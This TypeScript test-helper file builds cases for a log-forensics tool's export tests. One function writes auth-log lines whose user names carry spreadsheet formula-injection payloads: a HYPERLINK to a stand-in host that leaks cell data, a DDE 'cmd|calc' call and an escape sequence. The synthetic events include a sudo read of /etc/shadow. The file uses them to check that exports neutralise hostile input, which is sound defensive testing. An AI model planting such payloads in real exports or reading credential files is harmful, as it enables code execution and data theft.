/**
 * Shared set-up of the export tests: the format definitions in ../shared/specs (skipped, saying
 * so, when absent — like the corpus), and a case with findings built the way a user builds one.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect } from 'vitest';
import { query } from '../helpers/case.js';
import { dwell, ROOT } from '../helpers/cli.js';
import { expectValidFindings } from '../helpers/findings-schema.js';

export const SPECS = resolve(ROOT, '..', 'shared', 'specs');

export function specsDir(kind: string): string | null {
  const dir = join(SPECS, kind);
  if (!existsSync(dir)) {
    console.warn(`export tests: ${dir} is absent; the ${kind} format checks are skipped`);
    return null;
  }
  return dir;
}

/** The demo evidence (fixtures/auth) ingested and correlated from the seed the README uses. */
export async function caseWithFindings(dir: string): Promise<string> {
  const casePath = join(dir, 'case.duckdb');
  // The rotated files begin in December 2025 and the live ones in January 2026 (--year is the
  // year of a file's first line): dated 2026 they would lie in the future, and implausible times
  // are left out of exports.
  const rotated = await dwell(['ingest', '--year', '2025', '--case', casePath, '-q', 'fixtures/auth/web-01/auth.log.1', 'fixtures/auth/web-01/auth.log.2.gz']);
  expect(rotated.code, rotated.stderr).toBe(0);
  const ing = await dwell(['ingest', '--year', '2026', '--case', casePath, '-q', 'fixtures/auth']);
  expect(ing.code, ing.stderr).toBe(0);
  const cor = await dwell(['correlate', '--case', casePath, '--seed', 'ip:203.0.113.77', '--detected-at', '2026-01-02T09:15:00Z', '--contained-at', '2026-01-02T14:00:00Z']);
  expect(cor.code, cor.stderr).toBe(0);
  const [row] = await query<{ body: string }>(casePath, 'SELECT CAST(body AS VARCHAR) AS body FROM findings ORDER BY findings_id DESC LIMIT 1');
  expectValidFindings(JSON.parse(row!.body));
  return casePath;
}

/**
 * Evidence whose content is hostile to exports: formula-looking user names, quotes, commas,
 * control characters and a multi-line sudo command.
 */
export function hostileEvidence(dir: string): string {
  const ev = join(dir, 'evidence', 'evil-01');
  mkdirSync(ev, { recursive: true });
  const lines = [
    'Jan  3 10:00:01 evil-01 sshd[100]: Invalid user =HYPERLINK("http://x.example/?"&A1,"click") from 198.51.100.66 port 40000',
    'Jan  3 10:00:02 evil-01 sshd[100]: Failed password for invalid user +cmd|\' /C calc\'!A0 from 198.51.100.66 port 40000 ssh2',
    'Jan  3 10:00:03 evil-01 sshd[101]: Invalid user @SUM(1,2) from 198.51.100.66 port 40001',
    'Jan  3 10:00:04 evil-01 sshd[102]: Invalid user -2+3 from 198.51.100.66 port 40002',
    'Jan  3 10:00:05 evil-01 sshd[103]: Invalid user a"b,c\x1b[31mred from 198.51.100.66 port 40003',
    'Jan  3 10:00:06 evil-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/sh -c echo a#012=cmd|calc',
  ];
  writeFileSync(join(ev, 'auth.log'), lines.join('\n') + '\n');
  return join(dir, 'evidence');
}

export { ROOT };

/**
 * A case holding one event of every class and shape the other sources write (CloudTrail calls,
 * database statements, flows, process and system events), inserted directly: the OCSF mapping is
 * by class, so it is tested on all of them whatever parsers this branch has.
 */
export async function syntheticCase(path: string): Promise<number> {
  const { CaseDb } = await import('../../src/store/case-db.js');
  const db = await CaseDb.open(path, { create: true });
  try {
    await db.run(`INSERT INTO evidence (evidence_id, run_id, path, abs_path, sha256, status, ingested_at) VALUES (9, 1, 'synthetic/all.log', '/synthetic/all.log', repeat('ab', 32), 'ingested', now())`);
    const rows: Record<string, unknown>[] = [
      { class: 'api_activity', source: 'cloudtrail', action: 's3.amazonaws.com:GetObject', outcome: 'success', actor: 'arn:aws:iam::111122223333:user/deploy-bot', access_key: 'AKIAIOSFODNN7EXAMPLE', src_ip: '203.0.113.77', user_agent: 'aws-cli/2.15', target: 's3://acme-customer-exports/dump.csv', bytes_out: 1048576, session: 'deploy-bot@2026-01-02T03:00:00Z', attrs: { region: 'eu-west-1', account: '111122223333', request_id: 'R1' } },
      { class: 'api_activity', source: 'cloudtrail', action: 'ec2.amazonaws.com:RunInstances', outcome: 'failure', actor: 'arn:aws:sts::111122223333:assumed-role/ci/x', attrs: { source: 'autoscaling.amazonaws.com', region: 'eu-west-1' } },
      { class: 'api_activity', source: 'cloudtrail', action: 'cloudtrail.amazonaws.com:StopLogging', outcome: 'success', actor: null, attrs: {} },
      { class: 'authentication', source: 'cloudtrail', action: 'signin.amazonaws.com:ConsoleLogin', outcome: 'failure', actor: 'arn:aws:iam::111122223333:user/alice', src_ip: '2001:db8::7', attrs: { mfa: false } },
      { class: 'authentication', source: 'cloudtrail', action: 'sts.amazonaws.com:AssumeRole', outcome: 'success', actor: 'arn:aws:iam::111122223333:user/alice', access_key: 'ASIAEXAMPLEKEY000001', attrs: {} },
      { class: 'account_change', source: 'cloudtrail', action: 'iam.amazonaws.com:CreateAccessKey', outcome: 'success', actor: 'arn:aws:iam::111122223333:user/deploy-bot', target: 'backup-svc', attrs: {} },
      { class: 'account_change', source: 'cloudtrail', action: 'iam.amazonaws.com:AttachUserPolicy', outcome: 'success', actor: 'arn:aws:iam::111122223333:user/deploy-bot', target: 'backup-svc', attrs: {} },
      { class: 'account_change', source: 'auth_log', action: 'user_locked', outcome: 'success', host: 'web-01', actor: null, target: null, attrs: {} },
      { class: 'datastore_activity', source: 'postgres', action: 'db_query', outcome: 'success', host: 'db-01', actor: 'app', src_ip: '10.0.1.15', src_port: 51000, session: '65a1.2f', database: 'shop', target: 'public.customers', rows: 48211, command: 'COPY public.customers TO STDOUT', attrs: { sql: { type: 'copy', verb: 'COPY TO' } } },
      { class: 'datastore_activity', source: 'mysql', action: 'db_log', outcome: 'unknown', host: null, actor: null, attrs: { client_host: 'localhost' } },
      { class: 'datastore_activity', source: 'postgres', action: 'db_query', outcome: 'success', host: 'db-01', actor: 'app', database: 'shop', command: 'CREATE TABLE t (a int)', attrs: { sql: { type: 'ddl', verb: 'CREATE TABLE' } } },
      { class: 'authentication', source: 'postgres', action: 'db_connect', outcome: 'success', host: 'db-01', actor: 'app', src_ip: '10.0.1.15', protocol: 'postgres', attrs: {} },
      { class: 'authentication', source: 'postgres', action: 'db_auth_failed', outcome: 'failure', host: null, actor: null, attrs: {} },
      { class: 'network_activity', source: 'vpc_flow', action: 'flow', outcome: 'success', host: 'eni-0a1b', src_ip: '10.0.1.15', src_port: 44120, dst_ip: '198.51.100.9', dst_port: 443, protocol: 'tcp', bytes_in: 5120, bytes_out: 1048576000, packets_in: 80, packets_out: 700000, community_id: '1:LQU9qZlK+B5F3KDmev6m5PMibrg=', ts_end: true, attrs: { action: 'ACCEPT' } },
      { class: 'network_activity', source: 'zeek_conn', action: 'flow', outcome: 'unknown', protocol: 'udp', dst_ip: '192.0.2.53', dst_port: 53, attrs: {} },
      { class: 'network_activity', source: 'postgres', action: 'db_incomplete_startup', outcome: 'failure', host: null, src_ip: '10.0.9.9', attrs: {} },
      { class: 'process_activity', source: 'auth_log', action: 'sudo', outcome: 'success', host: 'web-01', actor: 'deploy', target: 'root', command: '/bin/cat /etc/shadow', attrs: { program: 'sudo', pid: 4242 } },
      { class: 'process_activity', source: 'auth_log', action: 'cron_command', outcome: 'success', host: null, actor: null, command: '/usr/local/bin/backup.sh', attrs: { program: 'CRON', pid: 77 } },
      { class: 'system_activity', source: 'postgres', action: 'db_server_start', outcome: 'success', host: 'db-01', attrs: {} },
      { class: 'other', source: 'auth_log', action: 'other', outcome: 'unknown', host: null, attrs: null },
    ];
    let n = 0;
    for (const r of rows) {
      n++;
      await db.run(
        `INSERT INTO events (event_id, ts, ts_end, time_quality, source, class, action, outcome, host, actor, src_ip, src_port, dst_ip, dst_port, protocol, session, access_key, target, database, bytes_in, bytes_out, packets_in, packets_out, rows, command, community_id, user_agent, summary, attrs, evidence_id, line, byte_offset, byte_length, raw)
         VALUES ($id, TIMESTAMP '2026-01-02 03:00:00' + to_seconds($n), CASE WHEN $te THEN TIMESTAMP '2026-01-02 03:10:00' END, 'exact', $source, $class, $action, $outcome, $host, $actor, $src_ip, $src_port, $dst_ip, $dst_port, $protocol, $session, $access_key, $target, $database, $bytes_in, $bytes_out, $packets_in, $packets_out, $rows, $command, $community_id, $user_agent, $summary, $attrs, 9, $n, $n * 100, 99, $raw)`,
        {
          id: 9n * 2n ** 32n + BigInt(n),
          n,
          te: r.ts_end === true,
          source: r.source as string,
          class: r.class as string,
          action: r.action as string,
          outcome: r.outcome as string,
          host: (r.host as string) ?? null,
          actor: (r.actor as string) ?? null,
          src_ip: (r.src_ip as string) ?? null,
          src_port: (r.src_port as number) ?? null,
          dst_ip: (r.dst_ip as string) ?? null,
          dst_port: (r.dst_port as number) ?? null,
          protocol: (r.protocol as string) ?? null,
          session: (r.session as string) ?? null,
          access_key: (r.access_key as string) ?? null,
          target: (r.target as string) ?? null,
          database: (r.database as string) ?? null,
          bytes_in: r.bytes_in === undefined ? null : BigInt(r.bytes_in as number),
          bytes_out: r.bytes_out === undefined ? null : BigInt(r.bytes_out as number),
          packets_in: r.packets_in === undefined ? null : BigInt(r.packets_in as number),
          packets_out: r.packets_out === undefined ? null : BigInt(r.packets_out as number),
          rows: r.rows === undefined ? null : BigInt(r.rows as number),
          command: (r.command as string) ?? null,
          community_id: (r.community_id as string) ?? null,
          user_agent: (r.user_agent as string) ?? null,
          summary: `${r.action} (synthetic)`,
          attrs: r.attrs === null ? null : JSON.stringify(r.attrs),
          raw: `raw record ${n}: ${r.action}`,
        },
      );
    }
    return rows.length;
  } finally {
    db.close();
  }
}
